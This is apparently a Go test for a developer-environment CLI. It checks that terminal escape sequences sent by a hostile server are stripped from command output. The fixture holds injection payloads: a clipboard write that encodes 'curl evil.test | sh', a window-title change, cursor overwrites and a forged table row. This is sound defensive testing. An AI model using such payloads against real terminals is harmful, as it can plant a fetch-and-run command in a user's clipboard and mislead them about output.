package cli

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"connectrpc.com/connect"
	covev1 "github.com/covedev/cove/proto/cove/v1"
	"github.com/covedev/cove/proto/cove/v1/covev1connect"
	"github.com/spf13/cobra"
)

// hostile is remote text as a hostile git server, registry or repository
// could make the server store: an OSC 52 clipboard write, a window title,
// a cursor move that overwrites the previous line, and a forged row.
func hostile(visible string) string {
	return visible + "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07" + "\x1b]0;owned\x1b\\" + "\x1b[1A\x1b[2K" + "\u009b31m" + "\nfake-row  RUNNING"
}

// hostileEnvs is an environment service whose every string is hostile.
type hostileEnvs struct {
	covev1connect.UnimplementedEnvironmentServiceHandler
}

func hostileEnv() *covev1.Environment {
	sub := func(m string) *covev1.SubStatus {
		return &covev1.SubStatus{Phase: covev1.SubPhase_SUB_PHASE_FAILED, Message: hostile(m)}
	}
	return &covev1.Environment{
		Id:       hostile("id1"),
		Metadata: &covev1.EnvironmentMetadata{Name: hostile("demo"), RunnerId: hostile("runner1")},
		Spec: &covev1.EnvironmentSpec{SpecVersion: 1, DesiredPhase: covev1.EnvironmentPhase_ENVIRONMENT_PHASE_RUNNING,
			ClassId: hostile("class1"), Content: &covev1.ContentSource{GitUrl: hostile("https://git.test/r"), Ref: hostile("main")}},
		Status: &covev1.EnvironmentStatus{
			Phase: covev1.EnvironmentPhase_ENVIRONMENT_PHASE_STOPPED, ObservedSpecVersion: 1,
			Image: hostile("img"), ImageDigest: hostile("sha256:x"), WorkspaceFolder: hostile("/workspaces/r"),
			Content: sub("content-msg"), Machine: sub("machine-msg"), Devcontainer: sub("dc-msg"), Lifecycle: sub("lc-msg"), DevcontainerPath: hostile(".devcontainer"),
			Warnings: []string{hostile("warn-msg")}, Extensions: []string{hostile("ext")},
			Ssh:            &covev1.SSHAddress{Host: hostile("demo.cove"), Address: hostile("gw:2222")},
			FailureMessage: hostile("remote: repository not found"),
			Ports: []*covev1.Port{{Port: 3000, Address: hostile("0.0.0.0"), Label: hostile("web-label"),
				Url: hostile("http://proxy.test/p/id1/3000/")}},
		},
	}
}

func (hostileEnvs) GetEnvironment(context.Context, *connect.Request[covev1.GetEnvironmentRequest]) (*connect.Response[covev1.GetEnvironmentResponse], error) {
	return connect.NewResponse(&covev1.GetEnvironmentResponse{Environment: hostileEnv()}), nil
}

func (hostileEnvs) ListEnvironments(context.Context, *connect.Request[covev1.ListEnvironmentsRequest]) (*connect.Response[covev1.ListEnvironmentsResponse], error) {
	return connect.NewResponse(&covev1.ListEnvironmentsResponse{Environments: []*covev1.Environment{hostileEnv()}}), nil
}

func (hostileEnvs) CreateEnvironment(context.Context, *connect.Request[covev1.CreateEnvironmentRequest]) (*connect.Response[covev1.CreateEnvironmentResponse], error) {
	return connect.NewResponse(&covev1.CreateEnvironmentResponse{Environment: hostileEnv()}), nil
}

func (hostileEnvs) RebuildEnvironment(context.Context, *connect.Request[covev1.RebuildEnvironmentRequest]) (*connect.Response[covev1.RebuildEnvironmentResponse], error) {
	return connect.NewResponse(&covev1.RebuildEnvironmentResponse{Environment: hostileEnv()}), nil
}

func (hostileEnvs) SharePort(context.Context, *connect.Request[covev1.SharePortRequest]) (*connect.Response[covev1.SharePortResponse], error) {
	return connect.NewResponse(&covev1.SharePortResponse{Environment: hostileEnv()}), nil
}

func (hostileEnvs) WatchEnvironments(_ context.Context, _ *connect.Request[covev1.WatchEnvironmentsRequest], s *connect.ServerStream[covev1.WatchEnvironmentsResponse]) error {
	return s.Send(&covev1.WatchEnvironmentsResponse{Environment: hostileEnv()})
}

// TestRemoteTextIsSanitized runs the commands that print server-provided
// text against a server that returns terminal control sequences in every
// field: nothing of them reaches the output, and the visible text does.
func TestRemoteTextIsSanitized(t *testing.T) {
	mux := http.NewServeMux()
	mux.Handle(covev1connect.NewEnvironmentServiceHandler(hostileEnvs{}))
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	t.Setenv("COVE_CONFIG_DIR", t.TempDir())
	t.Setenv("COVE_SERVER", srv.URL)
	t.Setenv("COVE_TOKEN", "cove_pat_test")

	for _, tc := range []struct {
		name    string
		cmd     func() *cobra.Command
		args    []string
		visible []string
	}{
		{"env list", EnvCommand, []string{"list"}, []string{"demo", "img", "remote: repository not found"}},
		{"env get", EnvCommand, []string{"get", "demo"}, []string{"id1", "machine-msg", "dc-msg", "lc-msg", "warn-msg", "remote: repository not found", "demo.cove"}},
		{"ports list", PortsCommand, []string{"list", "demo"}, []string{"web-label", "http://proxy.test/p/id1/3000/"}},
		{"ports share", PortsCommand, []string{"share", "demo", "3000", "--visibility", "public"}, []string{"http://proxy.test/p/id1/3000/"}},
		{"env create --wait", EnvCommand, []string{"create", "https://git.test/r.git", "--wait"}, []string{"machine-msg", "remote: repository not found"}},
		{"env rebuild --wait", EnvCommand, []string{"rebuild", "demo", "--wait"}, []string{"dc-msg", "remote: repository not found"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			cmd := tc.cmd()
			cmd.SetArgs(tc.args)
			cmd.SetOut(&out)
			cmd.SetErr(&out)
			cmd.SilenceUsage, cmd.SilenceErrors = true, true
			err := cmd.ExecuteContext(context.Background())
			text := out.String()
			if err != nil {
				text += "\nerror: " + err.Error()
			}
			if strings.ContainsAny(text, "\x1b\x07\u009b\u009c\u009d") || strings.Contains(text, "52;c;") || strings.Contains(text, "owned") {
				t.Errorf("control sequences reached the terminal:\n%q", text)
			}
			for _, v := range tc.visible {
				if !strings.Contains(text, v) {
					t.Errorf("output lacks %q:\n%s", v, text)
				}
			}
			// In tables and one-line fields a newline cannot forge a row
			// of its own; in multi-line messages it is indented.
			for line := range strings.SplitSeq(text, "\n") {
				if strings.HasPrefix(line, "fake-row") {
					t.Errorf("remote newline forged a line of its own:\n%s", text)
				}
			}
		})
	}
}
